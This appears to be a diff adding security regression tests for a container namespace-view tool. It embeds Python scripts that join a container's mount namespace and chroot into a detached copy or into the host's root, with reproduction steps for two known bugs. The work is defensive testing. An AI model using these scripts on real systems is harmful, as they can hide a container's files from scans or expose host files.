@@ -32,7 +32,7 @@ import {
   waitForLine,
   type Container,
 } from './helpers/index.js';
-import { probe, probe1, show } from './fixtures/attack/lib.js';
+import { probe, probe1, show, type ProbeResult } from './fixtures/attack/lib.js';
 
 const scope = new CleanupScope();
 test.after.always(() => scope.cleanup());
@@ -228,4 +228,108 @@ while True:
   await waitFor('by-pid to follow the new process', async () => (await probe1('readlink', `${d.mountpoint}/by-pid/${b!.pid}`)).data?.toString() === `../${b!.nsInode}`, { timeoutMs: 10_000, intervalMs: 200 });
   t.is((await probe1('read', `${d.mountpoint}/by-pid/${b!.pid}/marker`)).data?.toString(), 'MARKER-B\n');
   await held.kill();
+});
+
+/** Joins the container's mount namespace, then chroots into a detached copy of argv[2]. */
+const DETACHED_PY = String.raw`
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+pid, fake = sys.argv[1], sys.argv[2].encode()
+nsfd = os.open('/proc/%s/ns/mnt' % pid, os.O_RDONLY)
+if libc.setns(nsfd, 0x20000) != 0: raise OSError(ctypes.get_errno(), 'setns')
+# open_tree(AT_FDCWD, fake, OPEN_TREE_CLONE | AT_RECURSIVE): a detached copy of the directory.
+fd = libc.syscall(428, -100, ctypes.c_char_p(fake), 1 | 0x8000)
+if fd < 0: raise OSError(ctypes.get_errno(), 'open_tree')
+os.fchdir(fd)
+if libc.chroot(b'.') != 0: raise OSError(ctypes.get_errno(), 'chroot')
+print('chrooted', flush=True)
+time.sleep(120)
+`;
+
+/** Opens the host's "/", joins the container's mount namespace, then chroots into the host fd. */
+const HOSTROOT_PY = String.raw`
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+host = os.open('/', os.O_RDONLY | os.O_DIRECTORY)  # opened before joining: a host directory
+nsfd = os.open('/proc/%s/ns/mnt' % sys.argv[1], os.O_RDONLY)
+if libc.setns(nsfd, 0x20000) != 0: raise OSError(ctypes.get_errno(), 'setns')
+os.fchdir(host)
+if libc.chroot(b'.') != 0: raise OSError(ctypes.get_errno(), 'chroot')
+print('chrooted', flush=True)
+time.sleep(120)
+`;
+
+/**
+ * A container whose only process has `root` as its root directory (set up by `attack`), seen
+ * through a fresh daemon: what its namespace directory shows.
+ */
+async function rootSeenThrough(
+  t: { log: (...a: unknown[]) => void },
+  attack: 'busybox-chroot' | 'detached' | 'host-root',
+  canaryDir: string,
+): Promise<{ marker: ProbeResult; canary: ProbeResult }> {
+  const dir = makeTempDir(scope, 'atk-chroot');
+  const rootfs = await makeRootfs(path.join(dir, 'root'));
+  await writeFile(path.join(rootfs.dir, 'marker'), 'REAL-ROOT\n');
+  await mkdir(path.join(rootfs.dir, 'fake', 'bin'), { recursive: true });
+  await writeFile(path.join(rootfs.dir, 'fake', 'marker'), 'FAKE-ROOT\n');
+  const c = await startContainer(scope, { rootfs, setup: 'cp /bin/busybox /fake/bin/ && ln -s busybox /fake/bin/sleep' });
+  const att =
+    attack === 'busybox-chroot'
+      ? spawnLongLived(['nsenter', '-t', String(c.pid), '-m', '-r', '-w', '--', '/bin/busybox', 'sh', '-c', 'echo chrooted; exec /bin/busybox chroot /fake /bin/sleep 120'])
+      : spawnLongLived(['python3', '-c', attack === 'detached' ? DETACHED_PY : HOSTROOT_PY, String(c.pid), '/fake']);
+  scope.teardown(() => att.kill());
+  await waitForLine(att.child, att.stdout, /^chrooted$/, 20_000, () => att.stderr.all());
+  t.log(`${attack}: attacker ${att.child.pid} in ${await readlink(`/proc/${att.child.pid}/ns/mnt`)}, container ${c.nsInode}`);
+  // The attacker is now the only process of the namespace.
+  await c.stop();
+  const d = await startNsview(scope);
+  try {
+    const [marker, canary] = await probe([
+      { op: 'read', path: `${d.mountpoint}/${c.nsInode}/marker` },
+      { op: 'read', path: `${d.mountpoint}/${c.nsInode}${canaryDir}/secret` },
+    ]);
+    t.log(`${attack}: /marker ${show(marker!)}, host canary ${show(canary!)}`);
+    return { marker: marker!, canary: canary! };
+  } finally {
+    await d.stop();
+    await att.kill();
+  }
+}
+
+test("a chrooted process is not taken as the namespace's root", async (t) => {
+  const { marker, canary } = await rootSeenThrough(t, 'busybox-chroot', makeTempDir(scope, 'canary'));
+  t.true(!marker.ok || marker.data!.toString() === 'REAL-ROOT\n', show(marker));
+  t.false(canary.ok);
+});
+
+// BUG: openTaskRoot accepts any root whose `..` is itself. A process of the container (with
+// CAP_SYS_ADMIN over its mount namespace: privileged or user-namespaced containers) that
+// chroots into a detached copy of one of its directories (open_tree(OPEN_TREE_CLONE) + fchdir +
+// chroot) passes that check; once it is the namespace's only (or first) process, the view shows
+// the copy as the namespace's root: the real root's files vanish from every scan and backup.
+// Reproduction: DETACHED_PY above (python3 -c "$DETACHED_PY" CTRPID /fake), kill the container's
+// other processes, `nsview mount`, `cat VIEW/NS/marker` -> FAKE-ROOT. A fix: require the root
+// fd's mount (statx STATX_MNT_ID_UNIQUE) to be the root mount listed in /proc/PID/mountinfo of
+// that namespace (a detached or foreign mount is not in it), else use a sandbox.
+test.failing('a process whose root is a detached copy of a directory does not replace the namespace root', async (t) => {
+  const { marker, canary } = await rootSeenThrough(t, 'detached', makeTempDir(scope, 'canary'));
+  t.true(!marker.ok || marker.data!.toString() === 'REAL-ROOT\n', show(marker));
+  t.false(canary.ok);
+});
+
+// BUG: same check, worse outcome: a process in the container's mount namespace whose root is
+// the HOST's root directory (it held a host directory fd: a leaked fd as in runc
+// CVE-2024-21626, or a host tool that setns()'d without chrooting; plus CAP_SYS_CHROOT, in
+// Docker's default set) passes `..` == itself, and the container's directory in the view then
+// shows the host's files. Reproduction: HOSTROOT_PY above (opens "/" on the host, setns into the
+// container's mount namespace, fchdir + chroot(".")), kill the container's other processes,
+// `nsview mount`, `cat VIEW/NS/<host path>` -> the host's file. Same fix as above.
+test.failing("a process of the namespace whose root is the host's root does not expose host files", async (t) => {
+  const canaryDir = makeTempDir(scope, 'canary');
+  await writeFile(path.join(canaryDir, 'secret'), 'HOST-CANARY\n');
+  const { marker, canary } = await rootSeenThrough(t, 'host-root', canaryDir);
+  t.false(canary.ok, `host file read through the container's directory: ${show(canary)}`);
+  t.true(!marker.ok || marker.data!.toString() === 'REAL-ROOT\n', show(marker));
 });
